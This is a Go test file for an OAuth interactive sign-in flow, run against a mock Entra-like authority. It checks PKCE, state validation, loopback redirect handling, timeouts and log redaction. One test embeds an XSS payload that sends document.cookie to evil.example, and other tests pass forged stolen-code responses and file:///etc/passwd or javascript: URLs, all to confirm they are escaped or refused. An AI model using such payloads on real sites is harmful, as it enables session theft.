package flow

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"html"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/bearerhttp/bearer/authtest"
)

// page is what the loopback redirect server answered the browser.
type page struct {
	status int
	body   string
}

// testBrowser is the user's browser in these tests: it goes to the
// authorization URL through authtest (posing as Entra) and signs in
// through its sign-in form, then follows the redirect to the loopback
// server over plain HTTP, as a browser would.
type testBrowser struct {
	t        *testing.T
	srv      *authtest.Server
	username string
	password string
	cancel   bool // press Cancel on the form
	// before, when set, runs first with the authorization URL (a forged
	// response, a cancellation…); a non-nil error ends the open there.
	before func(b *testBrowser, authURL string) error

	mu    sync.Mutex
	urls  []string
	pages []page
	plain *http.Transport
}

func newTestBrowser(t *testing.T, srv *authtest.Server, username, password string) *testBrowser {
	b := &testBrowser{t: t, srv: srv, username: username, password: password, plain: &http.Transport{}}
	t.Cleanup(b.plain.CloseIdleConnections)
	return b
}

// client sends loopback http requests (the redirect) itself and the
// rest to authtest.
func (b *testBrowser) client() *http.Client {
	return &http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
		if r.URL.Scheme == "http" && (r.URL.Hostname() == "127.0.0.1" || r.URL.Hostname() == "localhost" || r.URL.Hostname() == "::1") {
			return b.plain.RoundTrip(r)
		}
		return b.srv.Transport().RoundTrip(r)
	})}
}

var (
	formAction = regexp.MustCompile(`<form method="post" action="([^"]*)">`)
	// hiddenInput (users_helpers_test.go) reads the form's hidden fields.
)

// open is the browser opener given to WithBrowser.
func (b *testBrowser) open(ctx context.Context, authURL string) error {
	b.mu.Lock()
	b.urls = append(b.urls, authURL)
	b.mu.Unlock()
	if b.before != nil {
		if err := b.before(b, authURL); err != nil {
			return err
		}
	}
	c := b.client()
	resp, err := c.Get(authURL)
	if err != nil {
		return err
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	m := formAction.FindStringSubmatch(string(body))
	if resp.StatusCode != 200 || m == nil {
		return fmt.Errorf("no sign-in form: %d %.300s", resp.StatusCode, body)
	}
	form := url.Values{}
	for _, h := range hiddenInput.FindAllStringSubmatch(string(body), -1) {
		form.Add(html.UnescapeString(h[1]), html.UnescapeString(h[2]))
	}
	form.Set("authtest_username", b.username)
	form.Set("authtest_password", b.password)
	form.Set("authtest_action", "signin")
	if b.cancel {
		form.Set("authtest_action", "cancel")
	}
	action, _ := url.Parse(authURL)
	action, _ = action.Parse(html.UnescapeString(m[1]))
	resp, err = c.PostForm(action.String(), form) // the redirect to the loopback server is followed
	if err != nil {
		return err
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	b.record(resp.StatusCode, string(body))
	return nil
}

func (b *testBrowser) record(status int, body string) {
	b.mu.Lock()
	b.pages = append(b.pages, page{status, body})
	b.mu.Unlock()
}

// get sends a request to the loopback server as a browser would.
func (b *testBrowser) get(raw string) (page, error) {
	resp, err := b.client().Get(raw)
	if err != nil {
		return page{}, err
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	p := page{resp.StatusCode, string(body)}
	b.record(p.status, p.body)
	return p, nil
}

func (b *testBrowser) lastPage() page {
	b.mu.Lock()
	defer b.mu.Unlock()
	if len(b.pages) == 0 {
		return page{}
	}
	return b.pages[len(b.pages)-1]
}

func (b *testBrowser) authURL() *url.URL {
	b.mu.Lock()
	defer b.mu.Unlock()
	if len(b.urls) == 0 {
		b.t.Fatal("the browser was not opened")
	}
	u, err := url.Parse(b.urls[len(b.urls)-1])
	if err != nil {
		b.t.Fatal(err)
	}
	return u
}

// cliID is a public client registered without redirect URIs: authtest
// then takes any http loopback redirect URI, as Entra takes any port of a
// registered loopback URI.
const cliID = "66666666-aaaa-4bbb-8ccc-000000000006"

// cliServer is userServer with the cliID client.
func cliServer(t *testing.T) *authtest.Server {
	srv := userServer(t)
	srv.AddClient(authtest.Client{ID: cliID, Public: true})
	return srv
}

// cliApp is the public client cliID of srv.
func cliApp(t *testing.T, srv *authtest.Server, more ...Option) *Public {
	t.Helper()
	return mustPublic(t, cliID, appOpts(srv, "organizations", more...)...)
}

// ctxFor bounds a test's sign-in, so that a broken test fails instead of
// waiting the sign-in timeout.
func ctxFor(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(bg(), 30*time.Second)
	t.Cleanup(cancel)
	return ctx
}

// noLeaks checks, after the test and its cleanups, that it left no
// goroutine behind (the redirect server's included).
func noLeaks(t *testing.T) {
	ignore := goleak.IgnoreCurrent()
	t.Cleanup(func() { goleak.VerifyNone(t, ignore) })
}

// assertClosed checks that nothing listens at the redirect URI any more.
func assertClosed(t *testing.T, redirectURI string) {
	t.Helper()
	u, err := url.Parse(redirectURI)
	if err != nil {
		t.Fatal(err)
	}
	host := u.Hostname()
	if host == "localhost" {
		host = "127.0.0.1"
	}
	if c, err := net.Dial("tcp", net.JoinHostPort(host, u.Port())); err == nil {
		c.Close()
		t.Errorf("the redirect server at %s still accepts connections", redirectURI)
	}
}

func TestInteractiveSignsUserIn(t *testing.T) {
	noLeaks(t)
	srv := cliServer(t)
	var lb logBuffer
	b := newTestBrowser(t, srv, aliceUser, alicePass)
	app := cliApp(t, srv, WithBrowser(b.open), WithCapabilities("cp1"), WithLogger(lb.logger()))
	r, err := app.AcquireTokenInteractive(ctxFor(t), []string{"User.Read"},
		Prompt(PromptSelectAccount), DomainHint("contoso.com"), MaxAge(time.Hour), Claims(`{"id_token":{"acrs":{"essential":true,"values":["c1"]}}}`))
	if err != nil {
		t.Fatal(err)
	}
	au := b.authURL()
	q := au.Query()
	redirect := q.Get("redirect_uri")
	if !regexp.MustCompile(`^http://127\.0\.0\.1:[1-9][0-9]*$`).MatchString(redirect) {
		t.Errorf("redirect_uri %q, want http://127.0.0.1:{port}", redirect)
	}
	want := map[string]string{
		"client_id": cliID, "response_type": "code", "scope": "User.Read openid offline_access profile",
		"code_challenge_method": "S256", "prompt": "select_account", "domain_hint": "contoso.com", "max_age": "3600", "client_info": "1",
		"claims": `{"access_token":{"xms_cc":{"values":["cp1"]}},"id_token":{"acrs":{"essential":true,"values":["c1"]}}}`,
	}
	for k, v := range want {
		if q.Get(k) != v {
			t.Errorf("authorization request %s = %q, want %q", k, q.Get(k), v)
		}
	}
	if len(q.Get("state")) < 32 || len(q.Get("nonce")) < 32 || len(q.Get("code_challenge")) != 43 || q.Has("login_hint") || q.Has("response_mode") {
		t.Errorf("authorization request %v", q)
	}
	if au.Host != "login.microsoftonline.com" || au.Path != "/organizations/oauth2/v2.0/authorize" {
		t.Errorf("authorization endpoint %s", au)
	}
	tr := srv.RequestsTo(authtest.EndpointToken)
	if len(tr) != 1 {
		t.Fatalf("%d token requests, want 1", len(tr))
	}
	f := tr[0].Form
	if f.Get("grant_type") != "authorization_code" || s256(f.Get("code_verifier")) != q.Get("code_challenge") || f.Get("redirect_uri") != redirect {
		t.Errorf("redemption %v", redactForm(f))
	}
	if r.Account.Username != aliceUser || r.IDTokenClaims["nonce"] != q.Get("nonce") || r.AccessToken == "" || r.RefreshToken == "" {
		t.Errorf("result %+v", r)
	}
	if p := b.lastPage(); p.status != 200 || !strings.Contains(p.body, "You have signed in") {
		t.Errorf("page after the sign-in: %d %s", p.status, p.body)
	}
	assertClosed(t, redirect)
	// The cache has the user: a second call is silent.
	again, err := app.AcquireTokenSilent(bg(), []string{"User.Read"}, r.Account)
	if err != nil || !again.FromCache {
		t.Fatalf("silent: %+v %v", again, err)
	}
	// No code, verifier or state in the log.
	code := f.Get("code")
	for _, secret := range []string{code, f.Get("code_verifier"), q.Get("state"), r.RefreshToken} {
		if len(secret) < 16 || strings.Contains(lb.String(), secret) {
			t.Errorf("the log shows a secret (or it is short: %d):\n%s", len(secret), lb.String())
		}
	}
	if !strings.Contains(lb.String(), "interactive") {
		t.Errorf("nothing logged about the sign-in:\n%s", lb.String())
	}
}

func TestInteractiveRedirectURIs(t *testing.T) {
	srv := cliServer(t)
	free := func() int {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		return ln.Addr().(*net.TCPAddr).Port
	}()
	tests := []struct {
		given string
		want  string // a regexp
	}{
		{"http://localhost", `^http://localhost:[1-9][0-9]*$`},
		{"http://localhost/", `^http://localhost:[1-9][0-9]*$`},
		{"http://LOCALHOST:0/callback", `^http://localhost:[1-9][0-9]*/callback$`},
		{"http://127.0.0.1/auth/cb", `^http://127\.0\.0\.1:[1-9][0-9]*/auth/cb$`},
		{fmt.Sprintf("http://localhost:%d/cb", free), fmt.Sprintf(`^http://localhost:%d/cb$`, free)},
	}
	for _, tc := range tests {
		t.Run(tc.given, func(t *testing.T) {
			b := newTestBrowser(t, srv, aliceUser, alicePass)
			app := cliApp(t, srv, WithBrowser(b.open))
			r, err := app.AcquireTokenInteractive(ctxFor(t), nil, RedirectURI(tc.given))
			if err != nil {
				t.Fatal(err)
			}
			got := b.authURL().Query().Get("redirect_uri")
			if !regexp.MustCompile(tc.want).MatchString(got) {
				t.Errorf("redirect_uri %q, want %s", got, tc.want)
			}
			if r.Account.Username != aliceUser {
				t.Errorf("account %+v", r.Account)
			}
			assertClosed(t, got)
		})
	}
}

func TestInteractiveLoginHintSkipsTheForm(t *testing.T) {
	srv := cliServer(t)
	var pageBody string
	app := cliApp(t, srv, WithBrowser(func(ctx context.Context, authURL string) error {
		b := newTestBrowser(t, srv, "", "")
		resp, err := b.client().Get(authURL) // authtest signs the hinted user in at once
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		pageBody = string(body)
		return nil
	}))
	r, err := app.AcquireTokenInteractive(ctxFor(t), []string{"User.Read"}, LoginHint(aliceUser))
	if err != nil {
		t.Fatal(err)
	}
	if r.Account.Username != aliceUser || !strings.Contains(pageBody, "You have signed in") {
		t.Errorf("account %+v, page %s", r.Account, pageBody)
	}
	if hint := srv.RequestsTo(authtest.EndpointAuthorize)[0].Query.Get("login_hint"); hint != aliceUser {
		t.Errorf("login_hint %q", hint)
	}
}

func TestInteractiveUserCancels(t *testing.T) {
	srv := cliServer(t)
	b := newTestBrowser(t, srv, aliceUser, alicePass)
	b.cancel = true
	app := cliApp(t, srv, WithBrowser(b.open))
	_, err := app.AcquireTokenInteractive(ctxFor(t), []string{"User.Read"})
	if fe := asError(t, err); fe.Code != "access_denied" {
		t.Errorf("error %v, want access_denied", err)
	}
	p := b.lastPage()
	if p.status != 200 || !strings.Contains(p.body, "Sign-in failed") || !strings.Contains(p.body, `<code id="error">access_denied</code>`) ||
		!strings.Contains(p.body, "User declined") {
		t.Errorf("page %d %s", p.status, p.body)
	}
	if n := srv.CountRequests(authtest.EndpointToken); n != 0 {
		t.Errorf("%d token requests after an error response", n)
	}
	assertClosed(t, b.authURL().Query().Get("redirect_uri"))
}

func TestInteractiveErrorPageEscapesTheAuthoritysText(t *testing.T) {
	srv := cliServer(t)
	b := newTestBrowser(t, srv, aliceUser, alicePass)
	const hostile = `<script>alert(document.domain)</script><img src=x onerror="fetch('//evil.example/'+document.cookie)">&amp; "quoted"`
	b.before = func(b *testBrowser, authURL string) error {
		// The "authority" redirects with a hostile error description.
		au, _ := url.Parse(authURL)
		q := au.Query()
		resp := url.Values{"state": {q.Get("state")}, "error": {`invalid_request<b>`}, "error_description": {hostile}}
		_, err := b.get(q.Get("redirect_uri") + "?" + resp.Encode())
		if err != nil {
			return err
		}
		return errors.New("done")
	}
	app := cliApp(t, srv, WithBrowser(b.open), withSignInOutput(io.Discard))
	_, err := app.AcquireTokenInteractive(ctxFor(t), nil)
	fe := asError(t, err)
	if fe.Code != "invalid_request<b>" || fe.Description != hostile {
		t.Errorf("error %q: %q", fe.Code, fe.Description)
	}
	p := b.lastPage()
	for _, raw := range []string{"<script>", "<img", "<b>", `onerror="`} {
		if strings.Contains(p.body, raw) {
			t.Errorf("the page has %q unescaped:\n%s", raw, p.body)
		}
	}
	for _, escaped := range []string{"&lt;script&gt;alert(document.domain)&lt;/script&gt;", "invalid_request&lt;b&gt;", "&amp;amp;", "&#34;quoted&#34;"} {
		if !strings.Contains(p.body, escaped) {
			t.Errorf("the page lacks %q:\n%s", escaped, p.body)
		}
	}
}

func TestInteractiveIgnoresResponsesOfOtherSignIns(t *testing.T) {
	srv := cliServer(t)
	b := newTestBrowser(t, srv, aliceUser, alicePass)
	var forged []page
	b.before = func(b *testBrowser, authURL string) error {
		redirect := mustParse(t, authURL).Query().Get("redirect_uri")
		for _, q := range []string{
			"code=stolen-code-0123456789&state=not-the-state",
			"code=stolen-code-0123456789",
			"error=access_denied&state=",
			"code=stolen-code-0123456789&state=" + url.QueryEscape(mustParse(t, authURL).Query().Get("state")) + "&state=x",
		} {
			p, err := b.get(redirect + "?" + q)
			if err != nil {
				return err
			}
			forged = append(forged, p)
		}
		p, err := b.get(redirect + "/favicon.ico")
		if err != nil {
			return err
		}
		forged = append(forged, p)
		return nil
	}
	app := cliApp(t, srv, WithBrowser(b.open))
	r, err := app.AcquireTokenInteractive(ctxFor(t), nil)
	if err != nil {
		t.Fatal(err)
	}
	if r.Account.Username != aliceUser {
		t.Errorf("account %+v", r.Account)
	}
	for i, p := range forged[:4] {
		if p.status != 400 || !strings.Contains(p.body, "does not belong to the sign-in under way") {
			t.Errorf("forged response %d: %d %s", i, p.status, p.body)
		}
	}
	if forged[4].status != 404 {
		t.Errorf("another path: %d", forged[4].status)
	}
	if tr := srv.RequestsTo(authtest.EndpointToken); len(tr) != 1 || tr[0].Form.Get("code") == "stolen-code-0123456789" {
		t.Errorf("token requests %v", tr)
	}
}

func mustParse(t *testing.T, raw string) *url.URL {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return u
}

// withSignInOutput replaces standard error as where the authorization
// URL is printed when no browser opens.
func withSignInOutput(w io.Writer) Option {
	return func(c *config) { c.signInOutput = w }
}

// printedURL is standard error for the sign-in: when the URL is printed,
// the "user" copies it into a browser.
type printedURL struct {
	b   *testBrowser
	buf bytes.Buffer
	err error
}

var printedURLPattern = regexp.MustCompile(`(?m)^    (https://\S+)$`)

func (p *printedURL) Write(data []byte) (int, error) {
	p.buf.Write(data)
	if m := printedURLPattern.FindSubmatch(p.buf.Bytes()); m != nil && p.err == nil && len(p.b.pages) == 0 {
		p.b.before = nil
		p.err = p.b.open(context.Background(), string(m[1]))
	}
	return len(data), nil
}

func TestInteractivePrintsTheURLWhenNoBrowserOpens(t *testing.T) {
	srv := cliServer(t)
	b := newTestBrowser(t, srv, aliceUser, alicePass)
	out := &printedURL{b: b}
	app := cliApp(t, srv, withSignInOutput(out), WithBrowser(func(ctx context.Context, url string) error {
		return fmt.Errorf("%w: xdg-open not found", ErrNoBrowser)
	}))
	r, err := app.AcquireTokenInteractive(ctxFor(t), []string{"User.Read"})
	if err != nil {
		t.Fatal(err)
	}
	if out.err != nil || r.Account.Username != aliceUser {
		t.Fatalf("sign-in through the printed URL: %v, %+v", out.err, r.Account)
	}
	if s := out.buf.String(); !strings.Contains(s, "Could not open a browser (flow: no browser can be opened: xdg-open not found)") ||
		!strings.Contains(s, "open this URL in a browser") {
		t.Errorf("printed %q", s)
	}
}

func TestInteractiveTimeout(t *testing.T) {
	srv := cliServer(t)
	var asked []time.Duration
	var mu sync.Mutex
	expiring := func(ctx context.Context, d time.Duration) (context.Context, context.CancelFunc) {
		mu.Lock()
		asked = append(asked, d)
		mu.Unlock()
		if d == 3*time.Minute { // the sign-in's wait: already over
			return context.WithDeadline(ctx, time.Now().Add(-time.Second))
		}
		return context.WithTimeout(ctx, d)
	}
	var redirect string
	app := cliApp(t, srv, func(c *config) { c.withTimeout = expiring }, WithBrowser(func(ctx context.Context, u string) error {
		redirect = mustParse(t, u).Query().Get("redirect_uri")
		return nil // the user never signs in
	}))
	_, err := app.AcquireTokenInteractive(ctxFor(t), nil, Timeout(3*time.Minute))
	if !errors.Is(err, ErrSignInTimeout) || !errors.Is(err, context.DeadlineExceeded) || !strings.Contains(err.Error(), "3m0s") {
		t.Fatalf("error %v, want ErrSignInTimeout after 3m0s", err)
	}
	assertClosed(t, redirect)

	// Without Timeout, the wait asked for is the default.
	asked = nil
	b := newTestBrowser(t, srv, aliceUser, alicePass)
	app = cliApp(t, srv, func(c *config) { c.withTimeout = expiring }, WithBrowser(b.open))
	if _, err := app.AcquireTokenInteractive(ctxFor(t), nil); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	defer mu.Unlock()
	found := false
	for _, d := range asked {
		found = found || d == DefaultInteractiveTimeout
	}
	if !found {
		t.Errorf("timeouts asked for %v, want %v among them", asked, DefaultInteractiveTimeout)
	}
}

func TestInteractiveStopsWhenContextEnds(t *testing.T) {
	noLeaks(t)
	srv := cliServer(t)
	ctx, cancel := context.WithCancel(bg())
	defer cancel()
	var redirect string
	app := cliApp(t, srv, WithBrowser(func(_ context.Context, u string) error {
		redirect = mustParse(t, u).Query().Get("redirect_uri")
		cancel()
		return nil
	}))
	_, err := app.AcquireTokenInteractive(ctx, nil)
	if !errors.Is(err, context.Canceled) || errors.Is(err, ErrSignInTimeout) {
		t.Fatalf("error %v, want context.Canceled", err)
	}
	assertClosed(t, redirect)
}

func TestInteractiveRefusals(t *testing.T) {
	srv := cliServer(t)
	app := cliApp(t, srv, WithBrowser(func(context.Context, string) error {
		t.Error("the browser was opened for a refused call")
		return nil
	}))
	for name, o := range map[string]CallOption{
		"State": State("s"), "ResponseMode": ResponseMode(ResponseModeFormPost), "ForceRefresh": ForceRefresh(),
		"Nonce": Nonce("n"), "PKCE": PKCE(strings.Repeat("v", 43)),
		"redirect_https":          RedirectURI("https://localhost/cb"),
		"redirect_other_host":     RedirectURI("http://app.example/cb"),
		"redirect_query":          RedirectURI("http://localhost/cb?x=1"),
		"redirect_fragment":       RedirectURI("http://localhost/cb#f"),
		"redirect_custom_scheme":  RedirectURI("myapp://auth"),
		"redirect_userinfo":       RedirectURI("http://user@localhost/cb"),
		"redirect_port_too_large": RedirectURI("http://localhost:70000/cb"),
		"redirect_lan_address":    RedirectURI("http://192.168.1.10/cb"),
		"timeout_zero":            Timeout(0),
		"timeout_negative":        Timeout(-time.Second),
	} {
		t.Run(name, func(t *testing.T) {
			if _, err := app.AcquireTokenInteractive(ctxFor(t), nil, o); !errors.Is(err, ErrInvalidOption) {
				t.Errorf("error %v, want ErrInvalidOption", err)
			}
		})
	}
	if n := len(srv.Requests()); n != 0 {
		t.Errorf("%d requests for refused calls", n)
	}
}

func TestInteractivePortInUse(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	srv := cliServer(t)
	app := cliApp(t, srv, WithBrowser(func(context.Context, string) error {
		t.Error("the browser was opened")
		return nil
	}))
	_, err = app.AcquireTokenInteractive(ctxFor(t), nil, RedirectURI(fmt.Sprintf("http://127.0.0.1:%d/cb", ln.Addr().(*net.TCPAddr).Port)))
	if err == nil || !strings.Contains(err.Error(), "listening for the redirect") {
		t.Fatalf("error %v", err)
	}
}

func TestOpenBrowserRefusesOtherSchemes(t *testing.T) {
	for _, u := range []string{"file:///etc/passwd", "javascript:alert(1)", "myapp://x", "", "https://"} {
		if err := OpenBrowser(bg(), u); err == nil || !strings.Contains(err.Error(), "http and https URLs only") {
			t.Errorf("OpenBrowser(%q) = %v", u, err)
		}
	}
}

func TestOpenBrowserWithoutGraphicalSession(t *testing.T) {
	switch runtimeGOOS() {
	case "darwin", "windows":
		t.Skip("opens a real browser")
	}
	t.Setenv("DISPLAY", "")
	t.Setenv("WAYLAND_DISPLAY", "")
	if err := OpenBrowser(bg(), "https://login.microsoftonline.com/"); !errors.Is(err, ErrNoBrowser) {
		t.Errorf("error %v, want ErrNoBrowser", err)
	}
}

func runtimeGOOS() string { return runtime.GOOS }

func TestTraceDeviceCodeAndInteractive(t *testing.T) {
	var log traceLog
	srv := cliServer(t)
	var code string
	p := &poller{srv: srv, actions: map[int]func(){2: func() {
		if err := srv.ApproveDeviceCode(code, aliceUser); err != nil {
			t.Error(err)
		}
	}}}
	b := newTestBrowser(t, srv, aliceUser, alicePass)
	app := cliApp(t, srv, WithTrace(log.trace()), withPollWait(p.wait), WithBrowser(b.open))
	scopes := []string{"User.Read"}
	byCode, err := app.AcquireTokenByDeviceCode(ctxFor(t), scopes, func(_ context.Context, dc DeviceCode) error { code = dc.UserCode; return nil })
	if err != nil {
		t.Fatal(err)
	}
	_, err = app.AcquireTokenByDeviceCode(ctxFor(t), scopes, func(_ context.Context, dc DeviceCode) error {
		return srv.DeclineDeviceCode(dc.UserCode)
	})
	if !errors.Is(err, ErrAuthorizationDeclined) {
		t.Fatalf("declined: %v", err)
	}
	inBrowser, err := app.AcquireTokenInteractive(ctxFor(t), scopes, Tenant("contoso.com"))
	if err != nil {
		t.Fatal(err)
	}
	b.cancel = true
	if _, err := app.AcquireTokenInteractive(ctxFor(t), scopes); err == nil {
		t.Fatal("a cancelled sign-in succeeded")
	}
	const ur = `[User.Read] tenant=""`
	checkLines(t, log.take(), []string{
		`start device_code ` + ur + ` claims=false force=false`, `done device_code fetched 200 err=false`,
		`start device_code ` + ur + ` claims=false force=false`, `done device_code failed 400 err=true`,
		`start interactive [User.Read] tenant="contoso.com" claims=false force=false`, `done interactive fetched 200 err=false`,
		`start interactive ` + ur + ` claims=false force=false`, `done interactive failed 0 err=true`,
	})
	log.holdsNone(t, byCode.AccessToken, byCode.RefreshToken, inBrowser.AccessToken, inBrowser.RefreshToken, code, alicePass)
}
